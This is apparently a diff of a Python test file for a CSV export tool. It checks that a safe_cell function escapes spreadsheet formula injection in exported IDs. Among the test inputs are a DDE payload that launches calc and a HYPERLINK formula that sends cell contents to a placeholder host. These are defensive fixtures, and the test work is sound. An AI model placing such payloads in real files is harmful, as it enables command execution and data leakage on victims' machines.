@@ -84,7 +84,7 @@ def test_the_output_is_written_like_the_input(
     text = f"{HEADER}\n客户,{GOOD}\n".replace(",", ";")
     source.write_bytes(text.encode("utf-8-sig"))
     score_csv(engine, record, source, output, job=Job())
-    assert output.read_bytes().startswith(b"\xef\xbb\xbfID;row;")
+    assert output.read_bytes().startswith(b'\xef\xbb\xbf"ID";"row";')
     assert lines_of(output, "utf-8-sig", ";")[0]["ID"] == "客户"
 
 
@@ -113,17 +113,54 @@ def test_a_file_without_ids_gets_row_numbers_only(
         ("@SUM(A1)", "'@SUM(A1)"),
         ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
         ("-2+3", "'-2+3"),
-        ("\t=1", "'\t=1"),
+        ("\t=1", "'\t'=1"),
         ("  =1", "'  =1"),
         ("＝1", "'＝1"),
         ("-17", "-17"),
         ("+1.5", "+1.5"),
         ("A-17", "A-17"),
         ("", ""),
+        ("C-1;=1+1", "C-1;'=1+1"),
+        ('C-1;=HYPERLINK("http://x/?"&A1;"ok")', 'C-1;\'=HYPERLINK("http://x/?"&A1;"ok")'),
+        ("a,@x", "a,'@x"),
+        ("a\t=1", "a\t'=1"),
+        ("a|+x", "a|'+x"),
+        ("a\n-2+3", "a\n'-2+3"),
+        ("a; =1", "a; '=1"),
+        ('a;"=1', "a;\"'=1"),
+        ("a;;＝1;=2", "a;;'＝1;'=2"),
+        (";=1", ";'=1"),
+        ("a;-17", "a;-17"),
+        ("a; -1.5 ;+2", "a; -1.5 ;+2"),
+        ("Smith - Jones = 1", "Smith - Jones = 1"),
+        ("from -2 to 8", "from -2 to 8"),
+        ("'=1", "'=1"),
     ],
 )
 def test_formula_cells_are_made_harmless(given: str, written: str) -> None:
     assert safe_cell(given) == written
+
+
+def test_a_long_run_of_separators_takes_no_time() -> None:
+    for run in ("\t" * 131_072, ' "' * 65_536, ";" * 131_072, ";-1" * 40_000):
+        safe_cell(f"a{run}b")
+
+
+@pytest.mark.parametrize("other", [",", ";", "\t", "|"])
+def test_no_formula_whatever_delimiter_the_spreadsheet_expects(
+    engine: InProcessEngine, record: ModelRecord, tmp_path: Path, other: str
+) -> None:
+    ids = ["C-1;=1+1", "a|=1", 'b"; =1', "c\t@x", "d, +x", "e\n=1"]
+    source, output = tmp_path / "in.csv", tmp_path / "out.csv"
+    with source.open("w", encoding="utf-8", newline="") as file:
+        writer = csv.writer(file)
+        writer.writerow(HEADER.split(","))
+        writer.writerows([name, *GOOD.split(",")] for name in ids)
+    score_csv(engine, record, source, output, job=Job())
+    with output.open(encoding="utf-8", newline="") as file:
+        cells = [cell for line in csv.reader(file, delimiter=other) for cell in line]
+    assert not [cell for cell in cells if cell.lstrip(' "')[:1] in tuple("=+@")]
+    assert [line["ID"] for line in lines_of(output)] == [safe_cell(name) for name in ids]
 
 
 def test_ids_are_made_harmless_on_export_but_not_in_the_result(
